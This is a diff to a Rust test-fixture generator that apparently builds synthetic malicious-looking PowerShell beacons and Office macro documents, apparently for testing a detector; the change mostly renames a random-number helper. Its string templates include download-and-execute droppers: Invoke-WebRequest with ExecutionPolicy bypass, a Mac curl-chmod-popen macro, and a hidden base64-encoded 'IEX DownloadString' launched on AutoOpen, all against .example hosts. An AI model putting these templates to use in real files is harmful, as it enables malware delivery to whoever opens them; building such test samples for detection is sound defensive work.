@@ -5,47 +5,16 @@
 // Each test takes its own part of this.
 #![allow(dead_code)]
 
+use crate::seed::Seed;
 use std::io::{Cursor, Write};
 use zip::ZipWriter;
 use zip::write::SimpleFileOptions;
 
-/// A small stream of numbers that a seed gives (SplitMix64).
-pub struct Draw(pub u64);
-
-impl Draw {
-    fn next(&mut self) -> u64 {
-        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
-        let mut z = self.0;
-        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
-        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
-        z ^ (z >> 31)
-    }
-
-    pub fn below(&mut self, bound: usize) -> usize {
-        (self.next() % bound as u64) as usize
-    }
-
-    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
-        of[self.below(of.len())]
-    }
-
+impl Seed {
     pub fn name(&mut self) -> String {
         let length = 3 + self.below(8);
         (0..length)
             .map(|_| char::from(b'a' + self.below(26) as u8))
-            .collect()
-    }
-
-    /// A keyword, alias or name in a random mix of cases.
-    fn cased(&mut self, word: &str) -> String {
-        word.chars()
-            .map(|c| {
-                if self.below(2) == 0 {
-                    c.to_ascii_uppercase()
-                } else {
-                    c.to_ascii_lowercase()
-                }
-            })
             .collect()
     }
 
@@ -94,7 +63,7 @@ pub const ALL: [Trait; 6] = [
     Trait::Rotation,
 ];
 
-fn dispatch(draw: &mut Draw, order: &str) -> String {
+fn dispatch(draw: &mut Seed, order: &str) -> String {
     let mut numbers: Vec<i64> = Vec::new();
     while numbers.len() < 6 {
         let number = 1 + draw.below(120) as i64;
@@ -111,7 +80,7 @@ fn dispatch(draw: &mut Draw, order: &str) -> String {
                 .iter()
                 .map(|arm| format!("  {arm} {{ ${state} = {arm} }}\n"))
                 .collect();
-            format!("{} (${order}) {{\n{}}}\n", draw.cased("switch"), arms.concat())
+            format!("{} (${order}) {{\n{}}}\n", draw.case("switch"), arms.concat())
         }
         1 => {
             let tests: Vec<String> = arms
@@ -126,7 +95,7 @@ fn dispatch(draw: &mut Draw, order: &str) -> String {
                 .map(|arm| {
                     format!(
                         "{} ({arm} -ieq ${order}) {{ ${state} = {arm} }}\n",
-                        draw.cased("if")
+                        draw.case("if")
                     )
                 })
                 .collect();
@@ -142,19 +111,19 @@ fn dispatch(draw: &mut Draw, order: &str) -> String {
     }
 }
 
-fn xor(draw: &mut Draw, data: &str) -> String {
+fn xor(draw: &mut Seed, data: &str) -> String {
     let written = 1 + draw.below(254) as i64;
     let key = draw.number(written);
     let (i, k) = (draw.name(), draw.name());
     match draw.below(4) {
         0 => format!(
             "{} (${i} = 0; ${i} -lt ${data}.Length; ${i}++) {{ ${data}[${i}] = ${data}[${i}] {} {key} }}\n",
-            draw.cased("for"),
-            draw.cased("-bxor")
+            draw.case("for"),
+            draw.case("-bxor")
         ),
         1 => format!(
             "${data} = ${data} | {} {{ $_ -bxor {key} }}\n",
-            draw.one(&["%", "foreach", "ForEach-Object"])
+            draw.pick(&["%", "foreach", "ForEach-Object"])
         ),
         2 => format!("${k} = {key}\n${data} = foreach (${i} in ${data}) {{ [byte](${k} -bxor ${i}) }}\n"),
         _ => format!(
@@ -163,15 +132,15 @@ fn xor(draw: &mut Draw, data: &str) -> String {
     }
 }
 
-fn digits(draw: &mut Draw, name: &str) -> String {
+fn digits(draw: &mut Seed, name: &str) -> String {
     let (from, to) = (draw.number(48), draw.number(57));
-    let random = draw.cased("get-random");
+    let random = draw.case("get-random");
     match draw.below(5) {
         0 => format!("${name} = -join(({from}..{to}) | {random} -Count 12 | % {{ [char]$_ }})\n"),
         1 => format!("${name} = -join ('4079218365'.ToCharArray() | {random} -Count 10)\n"),
         2 => format!(
             "$d{name} = 0..9\n${name} = ($d{name} | {} {{ {random} }}) -join ''\n",
-            draw.one(&["sort", "Sort-Object"])
+            draw.pick(&["sort", "Sort-Object"])
         ),
         3 => format!("${name} = ({random} -InputObject (0, 1, 2, 3, 4, 5, 6, 7, 8, 9) -Count 10) -join ''\n"),
         _ => format!("$r{name} = 57..48\n${name} = $r{name} | {random} -Count 10 | foreach {{ [char]$_ }}\n"),
@@ -180,14 +149,14 @@ fn digits(draw: &mut Draw, name: &str) -> String {
 
 /// Writes one look-alike without the traits of `but`.
 pub fn look_alike(seed: u64, but: &[Trait]) -> String {
-    let mut draw = Draw(seed);
+    let mut draw = Seed(seed);
     let has = |one: Trait| !but.contains(&one);
     let [urls, at, data, order, id, reply, body, ask] = std::array::from_fn(|_| draw.name());
     let hosts: Vec<String> = (0..3)
         .map(|_| format!("'https://{}.example/{}.php'", draw.name(), draw.name()))
         .collect();
     let sleep = match draw.below(3) {
-        0 => format!("{} {}\n", draw.cased("start-sleep"), 30 + draw.below(90)),
+        0 => format!("{} {}\n", draw.case("start-sleep"), 30 + draw.below(90)),
         1 => format!("sleep -s {}\n", 30 + draw.below(90)),
         _ => format!(
             "[System.Threading.Thread]::Sleep({})\n",
@@ -222,7 +191,7 @@ pub fn look_alike(seed: u64, but: &[Trait]) -> String {
     };
     let request = format!(
         "${ask} = [{}]::Create($u{at} + '?v=' + ${id})\n${ask}.Method = 'POST'\n${reply} = ${ask}.GetResponse()\n${order} = [BitConverter]::ToInt32(${data}, 0)\n",
-        draw.one(&[
+        draw.pick(&[
             "System.Net.WebRequest",
             "Net.HttpWebRequest",
             "System.Net.HttpWebRequest"
@@ -259,7 +228,7 @@ pub const DOCUMENTS: [&str; 4] = [
 
 /// Returns a document of one of [`DOCUMENTS`].
 pub fn document(kind: &str, seed: u64) -> Vec<u8> {
-    let mut draw = Draw(seed ^ 0x5EED);
+    let mut draw = Seed(seed ^ 0x5EED);
     let macros = match kind {
         "drop and bypass" => dropper(&mut draw),
         "download on a Mac" => mac(&mut draw),
@@ -270,7 +239,7 @@ pub fn document(kind: &str, seed: u64) -> Vec<u8> {
 }
 
 /// A text in pieces over several functions, written under a random name and started with the policy set aside.
-fn dropper(draw: &mut Draw) -> String {
+fn dropper(draw: &mut Seed) -> String {
     let text = format!(
         "Invoke-WebRequest -Uri https://{}.example/a -OutFile {}.bin",
         draw.name(),
@@ -306,9 +275,9 @@ fn dropper(draw: &mut Draw) -> String {
         draw.name(),
         draw.name(),
         6 + draw.below(9),
-        draw.one(&["AutoOpen", "Document_Open", "AutoExec"]),
+        draw.pick(&["AutoOpen", "Document_Open", "AutoExec"]),
     );
-    let bypass = draw.one(&[
+    let bypass = draw.pick(&[
         "-ep bypass -f",
         "-ExecutionPolicy Bypass -File",
         "-exec byp\" & \"ass -f",
@@ -323,10 +292,14 @@ fn dropper(draw: &mut Draw) -> String {
 }
 
 /// Under `#If Mac`: fetched to a random name, made executable, started through the system's library.
-fn mac(draw: &mut Draw) -> String {
-    let (url, path, entry) = (draw.name(), draw.name(), draw.one(&["AutoOpen", "Document_Open"]));
-    let mode = draw.one(&["+x", "755", "u+x"]);
-    let fetch = draw.one(&["curl -o", "curl -s --output", "curl -sko"]);
+fn mac(draw: &mut Seed) -> String {
+    let (url, path, entry) = (
+        draw.name(),
+        draw.name(),
+        draw.pick(&["AutoOpen", "Document_Open"]),
+    );
+    let mode = draw.pick(&["+x", "755", "u+x"]);
+    let fetch = draw.pick(&["curl -o", "curl -s --output", "curl -sko"]);
     format!(
         "#If Mac Then\nPrivate Declare PtrSafe Function popen Lib \"libc.dylib\" (ByVal c As String, ByVal m As String) As LongPtr\n\
          Private Const u{url} = \"https://{url}.example/{path}\"\n#End If\n\
@@ -336,7 +309,7 @@ fn mac(draw: &mut Draw) -> String {
 }
 
 /// A second workbook rebuilt from base64 and opened.
-fn rebuilder(draw: &mut Draw) -> String {
+fn rebuilder(draw: &mut Seed) -> String {
     use base64::Engine;
     let inner = docm("Sub Auto_Open()\n  x = 1\nEnd Sub\n");
     let text = base64::engine::general_purpose::STANDARD.encode(&inner);
@@ -358,7 +331,7 @@ fn rebuilder(draw: &mut Draw) -> String {
     )
 }
 
-fn encoded(draw: &mut Draw) -> String {
+fn encoded(draw: &mut Seed) -> String {
     use base64::Engine;
     let script = format!(
         "IEX (New-Object Net.WebClient).DownloadString('https://{}.example/{}')",
@@ -369,7 +342,7 @@ fn encoded(draw: &mut Draw) -> String {
     let text = base64::engine::general_purpose::STANDARD.encode(wide);
     format!(
         "Sub AutoOpen()\n  Dim c\n  c = \"power\" & \"shell -w hidden -{} {text}\"\n  Shell c, 0\nEnd Sub\n",
-        draw.one(&["enc", "e", "EncodedCommand"])
+        draw.pick(&["enc", "e", "EncodedCommand"])
     )
 }
 
